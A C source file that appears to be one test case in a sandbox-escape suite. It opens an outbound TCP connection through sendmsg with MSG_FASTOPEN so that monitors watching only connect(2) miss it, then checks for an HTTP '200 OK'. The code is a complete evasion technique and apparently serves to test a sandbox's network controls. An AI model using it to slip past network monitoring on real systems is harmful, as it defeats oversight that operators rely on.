/* A connection that opens with data and without connect(2): what watches only that call does not
 * see it. argv: address and port. */
#include "../attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

ATTACK(NETWORK, "egress", .gain = "a connection that no check of connect(2) sees",
       .source = "tcp(7)", .works = OUTSIDE)
{
	static const char request[] = "GET / HTTP/1.0\r\n\r\n";
	struct sockaddr_in a = {.sin_family = AF_INET};
	struct timeval limit = {.tv_sec = 3};
	struct iovec iov = {(void *)request, sizeof(request) - 1};
	struct msghdr m = {
		.msg_name = &a, .msg_namelen = sizeof(a), .msg_iov = &iov, .msg_iovlen = 1};
	char answer[256] = "";
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (argc < 3 || fd < 0)
		return NOT_HERE;
	a.sin_port = htons((uint16_t)strtol(argv[2], NULL, 10));
	inet_pton(AF_INET, argv[1], &a.sin_addr);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
	if (sendmsg(fd, &m, MSG_FASTOPEN | MSG_NOSIGNAL) < 0 ||
	    recv(fd, answer, sizeof(answer) - 1, 0) <= 0)
		return -1;
	errno = EACCES;
	return strstr(answer, "200 OK") ? 0 : -1;
}
